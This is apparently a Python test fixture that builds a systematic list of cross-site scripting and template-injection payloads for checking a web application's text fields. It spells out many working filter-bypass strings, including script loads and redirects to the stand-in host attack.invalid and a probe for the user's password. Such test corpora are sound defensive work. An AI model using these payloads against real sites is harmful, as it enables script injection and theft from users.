"""Texts that try to run a script, by families: tags × handlers × ways to write them. For every field that takes text.

`PAYLOADS` holds them all, each once; `NAMES` has them in one line each, as titles and tags are. They call `attacked()`
or ask the site `attack.invalid`; tests/browser/attacked.py looks whether one did, or got through as markup.
"""

from itertools import chain, product

CALL = "attacked(1)"
ELSEWHERE = "https://attack.invalid/a"

TAGS = {
    "img": "src=x", "svg": "", "video": "src=x", "audio": "src=x", "body": "", "iframe": "src=x", "object": "data=x",
    "input": "autofocus", "details": "open", "marquee": "", "select": "autofocus", "a": "href=# autofocus",
    "math": "", "style": "", "p": "tabindex=0 autofocus", "x-own": "contenteditable autofocus",
}  # fmt: skip
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpointerenter"]
WRITINGS = [
    "<{tag} {extra} {handler}={call}>",
    '<{TAG}\t{extra}\n{Handler}="{call}"//>',
    "<{tag}/{extra}/{handler}='{call}'",
    '"><{tag} {extra} {handler}={call}>',
]
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript\n:",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script&colon;",
    "%6Aavascript:", "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:", "view-source:javascript:", "feed:javascript:",
]  # fmt: skip
LINKS = [
    "[a]({scheme}{call})",
    "![a]({scheme}{call})",
    "<{scheme}{call}>",
    "[a][b]\n\n[b]: {scheme}{call}",
    '<a href="{scheme}{call}">a</a>',
]
SCRIPTS = [
    "<script>{call}</script>", "<ScRiPt>{call}</sCrIpT>", "<script\t>{call}</script\t>", "<script/x>{call}</script>",
    "<<script>{call}//<</script>", "<scr<script>ipt>{call}</scr</script>ipt>", "<script src={elsewhere}></script>",
    "<script src=//attack.invalid/a></script>", "<script type=module>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>", "--><script>{call}</script>", "]]><script>{call}</script>",
    "</script><script>{call}</script>", "<svg><script>{call}</script></svg>", "<svg><script href={elsewhere} />",
    "<math><script>{call}</script></math>", "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<xmp><p title='</xmp><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>", "<svg><style><img src=x onerror={call}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<svg></p><style><a title='</style><img src=x onerror={call}>'>", "<!--><img src=x onerror={call}>-->",
    "<![CDATA[><img src=x onerror={call}>]]>", "<?xml ?><img src=x onerror={call}>", "<!DOCTYPE x><svg onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'>", "<object data='data:text/html,<script>{call}</script>'>",
    "<embed src='data:text/html,<script>{call}</script>'>", "<base href=https://attack.invalid/>",
    "<meta http-equiv=refresh content='0;url={elsewhere}'>", "<link rel=stylesheet href={elsewhere}>",
    "<style>@import '{elsewhere}';</style>", "<div style='background:url({elsewhere})'>", "<img src={elsewhere}>",
    "<form action={elsewhere}><button autofocus>Go</button></form>", "<input name=csrfmiddlewaretoken value=1>",
    "<form id=notes-together><input name=action>", "<img name=body><img id=main>", "<isindex action={elsewhere}>",
    "<a href={elsewhere} ping={elsewhere}>a</a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'/></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{call} />",
    "<set onbegin={call}>", "<foreignObject><body onload={call}>",
]  # fmt: skip
MARKDOWN = [
    '![a](x "\\" onerror={call} x=\\"")', '[a](x "\\" onclick={call} \\"")', "[a](<x> onclick={call})",
    '```"><img src=x onerror={call}>\ncode\n```', "```html\n<script>{call}</script>\n```",
    "~~~ \"onload={call}\nx\n~~~",
    "`<img src=x onerror={call}>`", "## <img src=x onerror={call}>", "| <img src=x onerror={call}> |\n|---|\n| a |",
    "- [ ] <input autofocus onfocus={call}>", "[^1]\n\n[^1]: <img src=x onerror={call}>", "[^<svg onload={call}>]",
    "$\\text{{<img src=x onerror={call}>}}$", "$\\href{{javascript:{call}}}{{a}}$",
    "$$\\unicode{{<script>{call}</script>}}$$",
    "$\\class{{x onclick={call}}}{{a}}$", "$\\htmlData{{a=b}}{{<b>}}$",
    '```mermaid\ngraph TD; A["<img src=x onerror={call}>"]\n```',
    "```mermaid\nclick A javascript:{call}\n```", "> [!NOTE]\n> <svg onload={call}>", "> [!<svg onload={call}>]\n> a",
    "{{mission: <svg onload={call}>}}", "![a](x){{width=1 onerror={call}}}", "[a](lecture:1\" onclick={call})",
    "Term\n: <svg onload={call}>", "<https://example.org/\"onmouseover={call}>", "www.example.org/\"onmouseover={call}",
    "[a](//attack.invalid/a)", "![a]({elsewhere}.png)", "[![a](//attack.invalid/b.png)](x)",
    "a\\\n<svg onload={call}>", "&lt;img src=x onerror={call}&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;", "\\<script>{call}\\</script>", "***<svg onload={call}>***",
]  # fmt: skip
ENCODINGS = [
    "%3Cscript%3E{call}%3C/script%3E", "%253Cscript%253E{call}", "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{call}", "+ADw-script+AD4-{call}+ADw-/script+AD4-", "＜script＞{call}＜/script＞",
    "‹img src=x onerror={call}›",
    "<img src=x onerror=&#97;ttacked(1)>", "<img src=x onerror='\\u0061ttacked(1)'>",
    "<img src=x onerror=window['att'+'acked'](1)>",
    "<img src=x onerror=attacked`1`>", "<img\u2028src=x\u2028onerror={call}>", "<img\u00a0src=x onerror={call}>",
    "<\u200bscript>{call}",
    "\u202e<script>{call}</script>", "<scri\u0131pt>{call}</script>", "<ſcript>{call}</ſcript>",
    "\ufeff<svg onload={call}>",
]  # fmt: skip
ATTRIBUTES = [
    '" autofocus onfocus={call} x="', "' autofocus onfocus={call} x='", "` onfocus={call} x=`",
    '"/onfocus={call}/autofocus/',
    '"><svg onload={call}>', "'><svg onload={call}>", '"}};{call};//', "';{call};//", "\\';{call};//",
    "</option><svg onload={call}>",
    '" formaction="javascript:{call}', '" href="javascript:{call}', '" style="background:url({elsewhere})',
    '"\n onfocus={call}\n',
    "#\" onclick=\"{call}", "?x=\"><svg onload={call}>", "&quot; onfocus={call} &quot;",
]  # fmt: skip
TEMPLATES = [
    "{{{{ 7|add:7 }}}}", "{{% debug %}}", "{{% include 'base.html' %}}", "{{{{ request.user.password }}}}",
    "{{% csrf_token %}}",
    "${{{call}}}", "<%= {call} %>", "{{{{constructor.constructor('{call}')()}}}}", "#{{{call}}}", "[[${{{call}}}]]",
    "{{% endkept %}}<svg onload={call}>", "%(name)s %s %d", "{{0.__class__}}",
]  # fmt: skip


def handlers():
    """Each tag with each handler, written in one of the ways in turn."""
    for number, ((tag, extra), handler) in enumerate(product(TAGS.items(), HANDLERS)):
        writing = WRITINGS[number % len(WRITINGS)]
        yield writing.format(tag=tag, TAG=tag.upper(), extra=extra, handler=handler, Handler=handler.title(), call=CALL)


def links():
    for number, scheme in enumerate(SCHEMES):
        for link in (LINKS[0], LINKS[1 + number % (len(LINKS) - 1)]):
            yield link.format(scheme=scheme, call=CALL)


def written():
    for text in chain(SCRIPTS, MARKDOWN, ENCODINGS, ATTRIBUTES, TEMPLATES):
        yield text.format(call=CALL, elsewhere=ELSEWHERE)


PAYLOADS = tuple(dict.fromkeys(chain(handlers(), links(), written())))
NAMES = tuple(dict.fromkeys(" ".join(text.replace("\x01", "").split()) for text in PAYLOADS))
